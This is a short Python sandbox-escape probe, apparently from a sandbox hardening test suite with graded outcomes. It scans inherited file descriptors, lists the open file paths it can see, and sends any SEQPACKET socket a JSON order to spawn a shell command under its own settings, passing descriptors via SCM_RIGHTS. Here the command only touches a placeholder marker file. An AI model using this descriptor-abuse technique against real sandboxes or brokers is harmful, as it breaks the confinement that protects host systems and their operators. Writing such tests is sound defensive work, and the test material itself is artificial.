# attack: every descriptor that is open is used to order another kernel, with this one's settings
# outcome: earns what the wrong answer earns
# stock: no: meant for kernels that come from one process
import array
import json
import os
import socket
import stat

order = json.dumps({"command": ["/bin/sh", "-c", "touch /tmp/@MARK@"], "settings": {"home": "/", "work": "/"}}).encode()
files = array.array("i", [0, 0, 0, 0, 0]).tobytes()
for number in range(1024):
    try:
        status = os.fstat(number)
    except OSError:
        continue
    place = os.readlink(f"/proc/self/fd/{number}")
    if not stat.S_ISSOCK(status.st_mode):
        if place.startswith("/") and not place.startswith(("/dev/null", "/dev/urandom", "/dev/random")):
            print(number, "a file", os.path.basename(place))
        continue
    with socket.socket(fileno=os.dup(number)) as found:
        if found.type == socket.SOCK_SEQPACKET:
            print("REACHED", number)
            found.sendmsg([order], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
